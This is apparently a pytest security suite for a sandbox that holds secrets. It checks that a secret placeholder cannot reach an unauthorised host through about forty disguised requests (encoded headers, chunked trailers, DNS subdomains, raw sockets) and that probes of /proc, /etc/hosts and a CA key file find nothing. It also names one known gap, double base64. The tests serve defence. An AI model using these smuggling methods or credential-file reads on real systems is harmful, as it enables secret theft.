"""A placeholder on its way to a host that its secret is not for, hidden as well as one can."""

from __future__ import annotations

import base64
import json
import re
import socket
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from paddock import Sandbox
from security.attack import probe, shell
from security.network.conftest import Hosts
from security.network.inside import (
    PROXY,
    alerts,
    get,
    run_directory,
    say,
    say_all,
    status,
    steps,
)
from security.network.origins import scripted

VALUE = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"


@pytest.fixture(scope="module")
def box(hosts: Hosts) -> Iterator[Sandbox]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ATTACKED_KEY", VALUE)
        secrets = {
            "API_KEY": {"from": "env:ATTACKED_KEY", "to": ["api.example"],
                        "as": "header:Authorization=Bearer"},
        }  # fmt: skip
        with Sandbox.create(network=hosts.network, secrets=secrets) as made:
            yield made


@pytest.fixture
def placeholder(box: Sandbox, hosts: Hosts) -> str:
    for origin in hosts.all:
        origin.clear()
    text = shell(box, "printenv API_KEY").stdout.strip()
    assert re.fullmatch(r"paddock_API_KEY_[0-9a-f]{24}", text)
    return str(text)


def _post(body: bytes, *lines: str, target: str = "/") -> bytes:
    length = f"Content-Length: {len(body)}"
    return get(target, "other.example", length, *lines, method="POST") + body


def _chunked(body: bytes, size: int, trailer: bytes = b"") -> bytes:
    parts = [body[at : at + size] for at in range(0, len(body), size)]
    chunks = b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in parts)
    head = get("/", "other.example", "Transfer-Encoding: chunked", method="POST")
    return head + chunks + b"0\r\n" + trailer + b"\r\n"


def hidden(placeholder: str) -> dict[str, bytes]:
    """Requests to the other host, each with the placeholder somewhere."""
    raw = placeholder.encode()
    token = placeholder.rpartition("_")[2]
    twice = base64.b64encode(base64.b64encode(raw))
    pair = base64.b64encode(b"user:" + raw).decode()
    multipart = b'--x\r\nContent-Disposition: form-data; name="k"\r\n\r\n' + raw + b"\r\n--x--\r\n"
    escaped = "".join(f"\\u{ord(one):04x}" for one in placeholder)
    every = "".join(f"%{ord(one):02x}" for one in placeholder)
    form = "Content-Type: application/x-www-form-urlencoded"
    jsons = "Content-Type: application/json"
    long = b"A" * 300_000
    host = "other.example"
    return {
        "query": get(f"/?k={placeholder}", host),
        "path": get(f"/a/{placeholder}/b", host),
        "path, token only": get(f"/{token}", host),
        "path, percent": get(f"/{every}", host),
        "path, percent twice": get("/" + quote(every, safe=""), host),
        "header": get("/", host, f"X-Key: {placeholder}"),
        "header name": get("/", host, f"{placeholder}: x"),
        "header name in capitals": get("/", host, f"X-{placeholder.upper()}: x"),
        "cookie": get("/", host, f"Cookie: a=b; k={placeholder}"),
        "authorization": get("/", host, f"Authorization: Bearer {placeholder}"),
        "basic": get("/", host, f"Authorization: Basic {pair}"),
        "basic, base64 by itself": get("/", host, f"X: {base64.b64encode(raw).decode()}"),
        "user agent": get("/", host, f"User-Agent: x/{placeholder}"),
        "referer": get("/", host, f"Referer: http://other.example/?{placeholder}"),
        "hex header": get("/", host, f"X: {raw.hex()}"),
        "form": _post(b"k=" + raw, form),
        "form, percent": _post(b"k=" + every.encode(), form),
        "json": _post(json.dumps({"a": [{"k": placeholder}]}).encode(), jsons),
        "json, escaped": _post(b'{"k": "%b"}' % escaped.encode(), jsons),
        "json as text": _post(json.dumps({"k": placeholder}).encode(), "Content-Type: text/plain"),
        "bytes": _post(b"\0\1" + raw + b"\2", "Content-Type: application/octet-stream"),
        "no type": _post(raw),
        "multipart": _post(multipart, "Content-Type: multipart/form-data; boundary=x"),
        "base64": _post(base64.b64encode(raw)),
        "base64, shifted": _post(base64.b64encode(b"x" + raw + b"y")),
        "base64, shifted by two": _post(base64.b64encode(b"xy" + raw)),
        "base64 for urls": _post(base64.urlsafe_b64encode(b"??>" + raw)),
        "base64 in lines": _post(base64.encodebytes(b"x" * 40 + raw)),
        "hex": _post(raw.hex().encode()),
        "hex in capitals": _post(raw.hex().upper().encode()),
        "chunks of one byte": _chunked(raw, 1),
        "chunks of seven": _chunked(b"k=" + raw + b"&x", 7),
        "chunked base64": _chunked(base64.b64encode(raw), 5),
        "trailer": _chunked(b"body", 4, b"X-Key: " + raw + b"\r\n"),
        "trailer name": _chunked(b"body", 4, raw + b": x\r\n"),
        "after much else": _post(long + raw + long),
        "chunked after much else": _chunked(long + raw, 65536),
        "expect": get("/", host, "Expect: 100-continue", f"Content-Length: {len(raw)}",
                      method="POST") + raw,
        "upgrade": get("/", host, "Upgrade: " + placeholder).replace(b"close", b"upgrade"),
        "base64 of base64, which is not looked into": _post(twice),
    }  # fmt: skip


def _sent(data: bytes, *, by_proxy: bool) -> dict[str, object]:
    if not by_proxy:
        return {"host": "other.example", "port": 80, "data": data}
    absolute = data.replace(b" /", b" http://other.example/", 1)
    return {"host": PROXY[0], "port": PROXY[1], "data": absolute}


# Nothing can be made of a placeholder. Whoever encodes it twice, compresses or encrypts it sends
# text that is worth nothing; that it is not noticed is a limit, and it is written down.
NOT_NOTICED = {"base64 of base64, which is not looked into"}


def test_a_placeholder_does_not_leave_in_any_disguise(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    said = hidden(placeholder)
    for by_proxy in (False, True):
        words = {name: _sent(data, by_proxy=by_proxy) for name, data in said.items()}
        answers = say_all(box, words)
        let_through = {
            name for name, answer in answers.items() if status(answer) not in (0, 400, 403)
        }
        assert let_through == NOT_NOTICED
        assert all(status(answers[one]) == 403 for one in ("query", "header", "form", "json"))
    token = placeholder.rpartition("_")[2].encode()
    assert token not in bytes(hosts.other.heard).lower()
    assert {"secret": "API_KEY", "host": "other.example", "port": 80} in alerts(
        box, "secret.misplaced"
    )


@pytest.mark.parametrize("name", ["trailer", "chunks of one byte", "bytes", "header name", "path"])
def test_each_attempt_is_in_the_journal(
    box: Sandbox, hosts: Hosts, placeholder: str, name: str
) -> None:
    before = len(steps(box, "http"))
    say(box, host="other.example", port=80, data=hidden(placeholder)[name])
    step = steps(box, "http")[before]
    said = str(step.decided) + str(step.settled)
    assert "API_KEY" in said, said


def test_a_placeholder_does_not_leave_on_a_bare_connection(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    program = """
    import socket
    raw, size = sys.argv[1].encode(), int(sys.argv[2])
    sock = socket.create_connection(("raw.example", 5432), 20)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        sock.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
        sock.recv(100)
        for at in range(0, len(raw), size):
            sock.sendall(raw[at:at + size])
            time.sleep(0.005)
        sock.sendall(b"\\r\\n\\r\\n")
        found["it"] = len(sock.recv(100))
    except OSError as error:
        found["it"] = type(error).__name__
    """
    for text in (placeholder, base64.b64encode(placeholder.encode()).decode()):
        for size in (3, 1000):
            assert probe(box, program, text, str(size))["it"] in ("ConnectionResetError", 0)
    assert placeholder.encode() not in bytes(hosts.raw.heard)
    assert {"secret": "API_KEY", "host": "raw.example", "port": 5432} in alerts(
        box, "secret.misplaced"
    )


def test_a_placeholder_does_not_leave_as_a_name(
    box: Sandbox, placeholder: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Below a wildcard a name goes to the name server of whoever owns it."""
    token = placeholder.rpartition("_")[2]
    asked: list[str] = []
    real = socket.getaddrinfo
    monkeypatch.setattr(
        socket, "getaddrinfo", lambda name, *a, **k: asked.append(str(name)) or real(name, *a, **k)
    )
    host = f"{token}.wild.example"
    say(box, host=host, port=80, data=get("/", host))
    say(box, host=host, port=5432, data=b"hello")
    say(box, host=PROXY[0], port=PROXY[1], data=get(f"http://{host}/", host))
    assert not any(token in name for name in asked)
    assert any(about["secret"] == "API_KEY" for about in alerts(box, "secret.misplaced"))


def test_the_value_is_nowhere_inside_nor_in_the_journal(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    say(box, host="api.example", port=80, data=get("/keyed", "api.example"))
    assert f"Bearer {VALUE}".encode() in bytes(hosts.api.heard)
    program = """
    import glob
    needle = sys.argv[1][::-1].encode()  # as it is, it would be found in this very command
    found["where"] = []
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
                 *glob.glob("/run/**", recursive=True), *glob.glob("/etc/*"), *glob.glob("/tmp/*")]:
        try:
            if needle in read(path):
                found["where"].append(path)
        except OSError:
            pass
    """
    assert probe(box, program, VALUE[::-1])["where"] == []
    for path in run_directory(box).rglob("*"):
        assert not path.is_file() or VALUE.encode() not in path.read_bytes(), path


def test_the_key_of_the_sandboxs_authority_is_not_inside(box: Sandbox) -> None:
    done = shell(
        box, "grep -rlsE 'PRIVATE KEY' /run /etc/ssl /tmp /home 2>/dev/null; ls -la /run/paddock"
    )
    assert "/run" not in done.stdout.replace("/run/paddock:", ""), done.stdout
    done = shell(
        box,
        "for word in changeit '' changeme; do openssl pkcs12 -in /run/paddock/ca.p12"
        " -nodes -nocerts -passin pass:$word 2>&1; done",
    )
    assert "BEGIN" not in done.stdout


def test_what_a_sandbox_does_to_its_own_names_and_authorities_changes_nothing(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    """They are files for the convenience of its programs. The door does not read them."""
    shell(box, "for f in /run/paddock/* /etc/resolv.conf; do (echo x >> $f); done")
    shell(box, "(echo 1.1.1.1 api.example; echo 127.0.0.1 evil.example) >> /etc/hosts")
    assert status(say(box, host="1.1.1.1", port=80, data=get("/", "api.example"))) == 0
    evil = get("http://evil.example/", "evil.example")
    assert status(say(box, host=PROXY[0], port=PROXY[1], data=evil)) == 403
    assert hosts.api.asked == []
    with Sandbox.create(network=hosts.network) as second:
        assert "evil" not in shell(second, "cat /etc/hosts").stdout
        done = shell(second, "curl -s -o /dev/null -w '%{http_code}' https://secure.example/")
        assert done.stdout == "200"


def test_a_value_does_not_leave_in_clear_to_a_port_that_is_for_tls(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whoever allows port 443 means TLS. An agent that speaks plain HTTP to it would have the
    value sent over the network for everybody to read."""
    heard = bytearray()

    def listen(sock: socket.socket) -> None:
        while data := sock.recv(4096):
            heard.extend(data)
            sock.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")

    monkeypatch.setenv("ATTACKED_KEY", VALUE)
    secrets = {
        "API_KEY": {"from": "env:ATTACKED_KEY", "to": ["plain.example"],
                    "as": "header:Authorization=Bearer"},
    }  # fmt: skip
    with scripted(listen) as origin:
        network = {"allow": ["plain.example:443"], "hosts": {"plain.example": origin.place}}
        with Sandbox.create(network=network, secrets=secrets) as box:
            said = {
                "old": b"GET / HTTP/1.0\r\n\r\n",
                "new": get("/", "plain.example:443"),
                "h2c": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
            }
            words = {n: {"host": "plain.example", "port": 443, "data": d} for n, d in said.items()}
            absolute = get("http://plain.example:443/", "plain.example:443")
            words["proxy"] = {"host": PROXY[0], "port": PROXY[1], "data": absolute}
            answers = say_all(box, words)
            assert {n: status(a) for n, a in answers.items()} == {
                "old": 403, "new": 403, "h2c": 0, "proxy": 403}  # fmt: skip
            assert len(steps(box, "http")) == 3
    assert VALUE.encode() not in heard
